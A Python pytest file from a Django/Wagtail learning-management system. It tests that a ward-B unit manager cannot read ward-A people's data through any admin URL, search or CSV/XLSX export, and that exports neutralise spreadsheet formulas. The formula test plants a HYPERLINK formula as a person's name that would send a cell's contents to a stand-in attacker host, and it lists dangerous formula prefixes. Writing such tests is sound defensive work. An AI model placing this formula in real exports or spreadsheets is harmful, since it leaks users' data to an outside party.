"""Attack: a ward-B unit manager reads ward A through the Wagtail admin (the "Site history"
report and its CSV export showed ward-A people's names and edit history).

The test walks EVERY admin URL the resolver knows, fills its path parameters with the ids of
ward-A objects (people, accounts, units, departments, enrolments, attempts, log entries,
pages), GETs it as the ward-B unit manager (and each list again with ?export=csv / ?export=xlsx
and a search for a ward-A name), and asserts that no ward-A name, employee code, e-mail or
department name appears in any response (XLSX bodies are unpacked and read)."""

import csv
import io
import itertools
import os
import re
import zipfile
from datetime import date

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import RegexPattern
from openpyxl import load_workbook
from wagtail.log_actions import log

from courses.models import CourseIndexPage, CoursePage, Enrolment, ModulePage
from lms.org import roles
from lms.org.models import Department
from quizzes.models import Category, Quiz, QuizQuestion
from tests.conftest import site_root
from tests.factories import PersonFactory, UserFactory
from tests.quizzes.conftest import make_single
from training.models import TrainingCredit

pytestmark = pytest.mark.django_db

WARD_A_PEOPLE = [
    ("Quách Bảo Mật", "BIMAT-A-0001", "quach.baomat"),
    ("Tôn Nữ Kín Đáo", "BIMAT-A-0002", "tonnu.kindao"),
    ("Lạc Long Ẩn Danh", "BIMAT-A-0003", "laclong.andanh"),
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
WARD_A_DEPARTMENT = "Phòng Lưu Trữ Tuyệt Mật"
MODEL_PAIRS = [
    ("org", "person"),
    ("org", "department"),
    ("org", "administrativeunit"),
    ("accounts", "user"),
    ("courses", "enrolment"),
    ("quizzes", "attempt"),
    ("training", "trainingcredit"),
    ("wagtailcore", "modellogentry"),
]


@pytest.fixture
def ward_a_data(ward_a, ward_b, home_affairs, manager_b):
    """Ward-A people with distinctive names and codes, their enrolments, attempts and edit
    history (edited by a Sở Nội vụ user), plus one person of ward B."""
    department = Department.objects.create(unit=ward_a, name=WARD_A_DEPARTMENT)
    root = site_root()
    index = root.add_child(instance=CourseIndexPage(title="Khóa học", slug="khoa-hoc-pham-vi"))
    course = index.add_child(
        instance=CoursePage(title="An toàn thông tin", slug="attt-pham-vi", summary="Thử.")
    )
    module = course.add_child(instance=ModulePage(title="Bài 1", slug="bai-1"))
    quiz = Quiz.objects.create(title="Kiểm tra cuối khóa", course=course)
    QuizQuestion.objects.create(
        quiz=quiz, question=make_single(Category.objects.create(name="Phạm vi")), sort_order=0
    )
    people, ids = [], {"page": {course.pk, module.pk, index.pk}}
    for full_name, code, username in WARD_A_PEOPLE:
        user = UserFactory(username=username, roles=[roles.LEARNER])
        person = PersonFactory(
            user=user, unit=ward_a, department=department, full_name=full_name, employee_code=code
        )
        enrolment = Enrolment.objects.create(user=user, course=course, unit=ward_a)
        credit = TrainingCredit(
            user=user, source="course", title="Khóa phạm vi", tiet=2, date=date(2026, 3, 1)
        ).take_snapshot(person)
        credit.save()
        attempt, _created = quiz.start_attempt(user)
        entry = log(instance=person, action="wagtail.edit", user=home_affairs)
        log(instance=user, action="wagtail.edit", user=home_affairs)
        people.append(person)
        for kind, pk in [
            ("person", person.pk),
            ("user", user.pk),
            ("enrolment", enrolment.pk),
            ("attempt", attempt.pk),
            ("credit", credit.pk),
            ("log", entry.pk if entry else None),
        ]:
            if pk is not None:
                ids.setdefault(kind, set()).add(pk)
    log(instance=department, action="wagtail.edit", user=home_affairs)
    ids["unit"] = {ward_a.pk}
    ids["department"] = {department.pk}
    PersonFactory(
        user=UserFactory(username="nguoi.phuong.b", roles=[roles.LEARNER]),
        unit=ward_b,
        full_name="Người Phường Bê",
        employee_code="PHUONG-B-0001",
    )
    return people, ids


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), isinstance(pattern.pattern, RegexPattern)


PARAM = re.compile(r"<(?:(\w+):)?(\w+)>|\(\?P<(\w+)>[^)]*\)")


def _substitute(path, values):
    remaining = iter(values)
    return "/" + PARAM.sub(lambda _match: next(remaining), path)


def _fill(path, all_ids):
    """Every concrete URL for a pattern: ids of ward-A objects for numeric parameters, the
    org/people models for app label and model name parameters."""
    path = path.replace("^", "").replace("$", "").replace("\\.", ".")
    names = [m.group(2) or m.group(3) for m in PARAM.finditer(path)]
    if any(ch in PARAM.sub("", path) for ch in "*+?[]()\\"):
        return []
    choices = []
    pair_names = {"app_label", "app_name", "content_type_app_name"}
    for name in names:
        if name in pair_names:
            choices.append(list(MODEL_PAIRS))
        elif name in {"model_name", "content_type_model_name"}:
            choices.append([None])  # filled with its app label's pair
        elif name in {"token", "uidb64", "action", "action_name"}:
            choices.append(["x"])
        elif name == "filter_spec":
            choices.append(["original"])
        else:
            choices.append(sorted(all_ids))
    urls = []
    for combo in itertools.product(*choices):
        values, pair = [], None
        for value in combo:
            if isinstance(value, tuple):
                pair = value
                value = value[0]
            elif value is None:
                value = pair[1] if pair else "person"
            values.append(str(value))
        urls.append(_substitute(path, values))
    return urls


def _body(response):
    if hasattr(response, "streaming_content"):
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    if content[:2] == b"PK":  # an XLSX workbook: read every XML part
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            content = b"".join(archive.read(name) for name in archive.namelist())
    return content.decode("utf-8", errors="replace")


def _markers(people):
    markers = {WARD_A_DEPARTMENT}
    for person in people:
        markers |= {person.full_name, person.employee_code, person.user.email}
        markers.add(person.user.username)
    return markers


# The ward-B unit manager is the attack of the issue. The same walk as a trainer (who may see
# every page but no people) found nothing either; it doubled a walk that takes minutes on
# PostgreSQL, so it runs on demand: LMS_WALK_ALL_PERSONAS=1.
@pytest.mark.parametrize(
    "persona",
    ["manager_b", *(["trainer"] if os.environ.get("LMS_WALK_ALL_PERSONAS") else [])],
)
def test_every_admin_url_hides_ward_a_from_a_ward_b_unit_manager(ward_a_data, persona, request):
    """The ward-B unit manager of the attack, and a trainer (content staff see no people)."""
    viewer = request.getfixturevalue(persona)
    people, ids = ward_a_data
    all_ids = set().union(*ids.values())
    markers = _markers(people)
    client = Client(raise_request_exception=False)
    client.force_login(viewer, backend="django.contrib.auth.backends.ModelBackend")
    leaks, visited = [], 0
    # Searches use part of a name or code, so that a page echoing the search term is no leak.
    lists = ["?export=csv", "?export=xlsx", "?q=Bảo Mật", "?q=BIMAT", "?q=Tuyệt Mật"]
    for path, _is_regex in _walk(get_resolver().url_patterns):
        if not path.startswith("admin/") or "logout" in path:
            continue
        for url in _fill(path, all_ids):
            for query in ["", *(lists if url.endswith("/") and "<" not in path else [])]:
                response = client.get(url + query)
                visited += 1
                body = _body(response)
                found = sorted(marker for marker in markers if marker in body)
                if found:
                    leaks.append(f"{url}{query} [{response.status_code}]: {found}")
    assert visited > 300
    assert not leaks, "\n".join(leaks)


def test_site_history_and_its_export_are_for_city_wide_roles_only(
    ward_a_data, manager_b, home_affairs, client_for
):
    people, _ids = ward_a_data
    manager = client_for(manager_b)
    for query in ("", "?export=csv", "?export=xlsx"):
        response = manager.get("/admin/reports/site-history/" + query)
        assert response.status_code in (302, 403, 404)
        assert people[0].full_name not in _body(response)
    # Sở Nội vụ still reads the history of the people they edited.
    response = client_for(home_affairs).get("/admin/reports/site-history/")
    assert response.status_code == 200
    assert people[0].full_name in response.content.decode()


def test_report_exports_escape_formula_cells(ward_a, home_affairs, client_for):
    """A person named like a formula is exported as text, in CSV and XLSX."""
    hostile = PersonFactory(
        user=UserFactory(username="cong.thuc", roles=[roles.LEARNER]),
        unit=ward_a,
        full_name='=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
        employee_code="+CMD-0001",
    )
    log(instance=hostile, action="wagtail.edit", user=home_affairs)
    client = client_for(home_affairs)
    response = client.get("/admin/reports/site-history/?export=csv")
    cells = [cell for row in csv.reader(io.StringIO(_body(response))) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    response = client.get("/admin/reports/site-history/?export=xlsx")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    # XLSX cells have types: the text is kept as it is, in a string cell carrying Excel's
    # quote-prefix flag (lms/lib/exports.py), and the file holds no formula at all.
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    hostile_cells = [c for c in cells if str(c.value).startswith(DANGEROUS)]
    assert hostile.full_name in [c.value for c in hostile_cells]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
